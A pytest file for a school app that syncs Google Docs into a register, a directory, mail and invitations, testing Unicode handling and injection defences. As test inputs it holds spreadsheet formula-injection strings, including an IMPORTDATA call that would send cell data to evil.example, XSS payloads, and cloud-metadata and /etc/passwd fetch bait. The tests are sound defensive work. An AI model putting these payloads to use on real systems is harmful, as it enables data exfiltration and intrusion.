"""Whatever signs people type arrive as they are, or are left out on the way in; nothing runs, nothing breaks."""

from __future__ import annotations

import json
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any
from urllib.parse import urlsplit

import pytest

from sync.demo.acts import AddRow
from tests.support.community import School
from tests.support.founding import BASE, HILLSIDE, OAKFIELD
from tests.support.scenarios import FOLDED, log_fractions

LATER = "09:00"
OURS = (OAKFIELD, HILLSIDE)


def two_rounds(school: School) -> None:
    school.works()
    school.on("2027-01-05", LATER).works()


class Rewriting:
    """A transport whose answers to documents.get hold other text than what was typed: as Google may give it."""

    def __init__(self, inside: Any, old: str, new: str) -> None:
        self._inside, self._old, self._new = inside, old, new

    def request(self, uri: str, method: str = "GET", body: Any = None, headers: Any = None, **more: Any) -> Any:
        response, content = self._inside.request(uri, method, body=body, headers=headers, **more)
        if method == "GET" and "/v1/documents/" in uri:
            content = content.replace(self._old.encode(), self._new.encode())
        return response, content


@contextmanager
def as_google_gives(school: School, old: str, new: str) -> Iterator[None]:
    door = school.equipment.engine_door
    inside, door.inside = door.inside, Rewriting(door.inside, old, new)
    try:
        yield
    finally:
        door.inside = inside


# 49: signs of every kind

KINDS = {
    "emoji of several signs": "Reading 👩🏽‍🏫 aloud 🏴󠁧󠁢󠁷󠁬󠁳󠁿",
    "right to left": "قراءة بصوت عالٍ with Year 9",
    "mixed directions and marks": "Hebrew \u2067עברית\u2069 and \u200fback",
    "zero width": "read\u200bing a\u2060lo\u200dud",
    "letters with marks apart": "Cafe\u0301 conversation",
    "beyond the basic plane": "𝒫honics and 𐍈",
    "full width": "Ｐｈｏｎｉｃｓ catch-up",
}


@pytest.mark.parametrize("what", KINDS.values(), ids=KINDS.keys())
def test_signs_of_every_kind_stand_in_the_register_as_typed(school, what):
    school.amina.offers(what)

    two_rounds(school)

    assert school.offered() == [" ".join(what.split())]
    assert school.problems(school.amina) == []


@pytest.mark.parametrize("what", KINDS.values(), ids=KINDS.keys())
def test_a_question_about_signs_of_every_kind_stands_where_it_should_and_is_taken_back_whole(school, what):
    school.on("2027-03-04", "16:00").amina.logs("4 March 2027", what, "1 h", what)
    school.works()
    before = school.doc_text(school.amina)

    school.on("2027-04-12").works()
    asked = school.doc_text(school.amina)
    school.on("2027-05-31").works()

    assert f"{' '.join(what.split())}: one month on" in asked
    assert school.doc_text(school.amina) == before


@pytest.mark.parametrize(
    ("escaped", "kept"),
    [(r"\ud83d", "\ufffd"), (r"\ude00\ud83d", "\ufffd\ufffd"), (r"\ud83d\ude00", "😀"), (r"\u0000\u001b[2J", "[2J")],
    ids=["half a sign", "halves the wrong way round", "a whole sign", "NUL and ESC"],
)
def test_what_cannot_be_stored_is_left_out_on_the_way_in_and_nothing_breaks(school, escaped, kept):
    school.amina.offers("Phonics QQQ catch-up")
    school.amina.logs("4 January 2027", "Fractions QQQ")

    with as_google_gives(school, "QQQ", escaped):
        two_rounds(school)

    assert school.offered() == [f"Phonics {kept} catch-up"]
    assert (school.problems(school.amina), len(school.prompts(school.amina))) == ([], 4)


def test_line_ends_of_every_kind_in_a_cell_are_spaces(school):
    school.amina.offers("Phonics QQQ catch-up")

    with as_google_gives(school, "QQQ", r"one\r\ntwo\rthree\u000bfour\u0085five"):
        two_rounds(school)

    assert school.offered() == ["Phonics one two three four five catch-up"]


# 50: formulas

FORMULAS = [
    '=HYPERLINK("http://evil.example","Phonics")',
    "+44 20 7946 0000",
    "-2+3",
    "@SUM(A1:A9)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1:A9)",
    "'=1+1",
    '=IMPORTDATA("http://evil.example/?"&A1)',
]


def test_no_text_becomes_a_formula_in_the_register_however_it_begins(school):
    for number, text in enumerate(FORMULAS):
        school.amina.offers(text, how=f"{text} {number}")

    two_rounds(school)

    found = school.hands(school.bea.email).spreadsheets.get(
        spreadsheetId=school.book("register"), includeGridData=True, ranges=["'Offers'"]
    )
    cells = [
        cell.get("userEnteredValue", {})
        for row in found.execute()["sheets"][0]["data"][0]["rowData"]
        for cell in row.get("values", ())
    ]
    assert school.offered() == FORMULAS
    assert {kind for cell in cells for kind in cell} == {"stringValue"}


@pytest.mark.parametrize("begins", [r"\t=1+1", r"\r=1+1", r"\n=1+1"], ids=["tab", "return", "line feed"])
def test_a_formula_behind_white_space_is_text_without_the_white_space(school, begins):
    school.amina.offers("QQQ")

    with as_google_gives(school, '"QQQ', f'"{begins}'):
        two_rounds(school)

    assert school.offered() == ["=1+1"]


# 51 and 54: HTML, links, and what is never fetched

MARKUP = '<img src=x onerror=alert(1)><a href="javascript:alert(1)">Phonics</a> & "quotes"'


class Addresses:
    """A transport that notes where everything was sent."""

    def __init__(self, inside: Any) -> None:
        self._inside = inside
        self.hosts: set[str] = set()

    def request(self, uri: str, method: str = "GET", body: Any = None, headers: Any = None, **more: Any) -> Any:
        found = urlsplit(uri)
        self.hosts.add(f"{found.scheme}://{found.netloc}")
        return self._inside.request(uri, method, body=body, headers=headers, **more)


def links_and_styles(raw: dict[str, Any]) -> set[str]:
    found = set()
    for block in raw["body"]["content"]:
        for item in block.get("paragraph", {}).get("elements", ()):
            link = item.get("textRun", {}).get("textStyle", {}).get("link", {})
            found |= {link["url"]} if "url" in link else set()
    return found


def test_markup_in_an_offer_is_words_in_the_directory_and_makes_no_link(school):
    school.amina.offers(MARKUP, how="javascript:alert(1)")
    school.works()

    school.makes_directory()

    with school.parts.engine.begin() as c:
        document = c.exec_driver_sql("SELECT document FROM edition").scalar_one()
    raw = school.hands(school.bea.email).documents.get(documentId=document).execute()
    links = links_and_styles(raw)
    assert MARKUP.partition(" & ")[0] in json.dumps(raw, ensure_ascii=False).replace('\\"', '"')
    assert {link.split(":", 1)[0] for link in links} <= {"mailto", "http"}
    assert all(link.startswith(("mailto:amina@oakfield.example?", BASE)) for link in links)
    assert not any(sign in link for link in links for sign in ('"', "<", ">", " ", "\n"))


def test_markup_in_an_offer_is_in_no_mail(school):
    school.amina.offers(MARKUP)
    school.works()

    school.makes_directory()

    (mail,) = school.mail(school.bea)
    assert ("<" in mail["text"], mail["subject"]) == (False, "Ask a colleague: Spring 2027")


def test_markup_in_a_hosts_name_makes_no_link_in_the_invitation(school):
    school.hands_in_list(amina={"Name": 'Amina <a href="http://evil.example">Hussain</a>'})
    school.amina.plans_session("Fractions", "15 April 2027", "4 pm", "60", "all our schools")

    two_rounds(school)

    (event,) = school.events(school.amina)
    assert "is holding this" in event["description"]
    assert not {"<", ">"} & set(event["description"])


def test_nothing_that_stands_in_a_doc_is_ever_fetched(school):
    bait = "http://169.254.169.254/latest/meta-data"
    title = school.doc(school.amina).blocks[0]
    span = {"startIndex": title.start, "endIndex": title.end - 1}
    school.amina.types({"updateTextStyle": {"range": span, "textStyle": {"link": {"url": bait}}, "fields": "link"}})
    school.amina.does(AddRow("What I can offer", (f"Phonics {bait}", "file:///etc/passwd", "all our schools")))
    school.amina.plans_session(f"See {bait}", "15 April 2027", "4 pm", "60", bait)
    door = school.equipment.engine_door
    inside, door.inside = door.inside, Addresses(door.inside)

    two_rounds(school)
    school.makes_directory()

    found, door.inside = door.inside, inside
    assert found.hosts == {BASE}
    assert school.offered() == [f"Phonics {bait}"]


# 48: much of everything


def test_a_hundred_tabs_cost_one_call_and_change_nothing_that_is_read(school):
    school.amina.offers("Questioning")
    school.amina.types(*({"addDocumentTab": {"tabProperties": {"title": f"Page {n}"}}} for n in range(99)))
    school.forget_calls()

    two_rounds(school)

    assert (school.offered(), school.problems(school.amina)) == (["Questioning"], [])
    assert len([line for line in school.ledger("docs.documents.get") if line["target"] == school.amina.portfolio]) == 1


def test_a_very_long_line_is_read_and_the_others_go_on(school):
    school.amina.notes("went well " * 5000)
    school.amina.offers("Questioning")

    two_rounds(school)

    assert (school.offered(), school.problems(school.amina)) == (["Questioning"], [])


def test_an_answer_of_many_pages_is_read_whole(school):
    log_fractions(school)
    school.on("2027-04-12").works()
    school.amina.answers(FOLDED, "They fold before they ask. " * 800)

    school.on("2027-04-13").works()

    assert school.prompts(school.amina)[0].answer == ("They fold before they ask. " * 800).strip()


def test_a_doc_nested_deeper_than_can_be_read_stops_nobody_else(school):
    """Tables within tables without end: what Google gives cannot be read as JSON."""
    school.amina.offers("Questioning")
    school.carol.offers("Phonics catch-up")

    with as_google_gives(school, '"Questioning', "[" * 100_000 + '"Questioning'):
        two_rounds(school)

    assert school.offered() == ["Phonics catch-up"]
